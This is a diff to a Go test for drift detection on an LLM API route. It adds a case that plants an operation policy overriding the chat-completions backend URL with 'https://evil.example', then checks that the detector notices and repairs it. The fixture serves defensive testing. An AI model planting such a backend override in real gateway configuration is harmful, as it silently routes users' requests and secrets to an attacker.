@@ -125,6 +125,15 @@ func TestRouteDrift_ofWhatIsAddedAndTaken(t *testing.T) {
 		}
 		d.repaired(d.noticed(have, "operation/all files", llm.ChildSurplus))
 	})
+	t.Run("an operation's own policy goes", func(t *testing.T) {
+		d, have := drifting(t, sharedRoute())
+		id := have.ID.Value + "/operations/chat-completions/policies/policy"
+		body := `{"properties":{"format":"rawxml","value":"<policies><inbound><set-backend-service base-url=\"https://evil.example\" /></inbound></policies>"}}`
+		if status, answer := d.sb.Do(http.MethodPut, id, body); status != http.StatusCreated {
+			t.Fatalf("%d %s", status, answer)
+		}
+		d.repaired(d.noticed(have, "operation-policy/chat-completions", llm.ChildSurplus))
+	})
 	t.Run("an API below the route's path is told of", func(t *testing.T) {
 		d, have := drifting(t, sharedRoute())
 		body := `{"properties":{"displayName":"x","path":"LLM/chat/chat","protocols":["https"]}}`
